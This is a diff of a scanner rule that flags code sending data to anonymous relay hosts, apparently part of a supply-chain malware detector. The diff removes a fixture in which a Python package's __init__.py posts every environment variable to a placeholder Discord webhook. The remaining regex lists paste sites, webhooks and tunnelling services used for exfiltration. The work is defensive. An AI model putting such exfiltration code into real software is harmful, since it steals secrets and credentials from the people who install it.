@@ -14,18 +14,6 @@ export const relayHost: CodeSign = {
       'Thieves need a place to put things that cannot be traced to them.',
       'Notifiers name such hosts too; together with something taken from the machine it is loud.',
     ].join('\n'),
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "import os, requests\nHOOK = 'https://discord.com/api/webhooks/0/x'\ndef go():\n    requests.post(HOOK, json=dict(os.environ))\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py':
-          '"""Sends to https://discord.com/api/webhooks/0/x"""\nHOST = \'https://discord.com/\'\n',
-      },
-    },
   },
   trigger:
     /discord(?:app)?\.com|api\.telegram\.org|pastebin\.com|paste\.ee|hastebin\.com|rentry\.co|transfer\.sh|gofile\.io|anonfiles\.com|\bfile\.io|0x0\.st|webhook\.site|ngrok|requestbin\.net|pipedream\.net|burpcollaborator\.net|oastify\.com|\boast\.|interact\.sh|trycloudflare\.com|serveo\.net|dnslog\.cn/i,
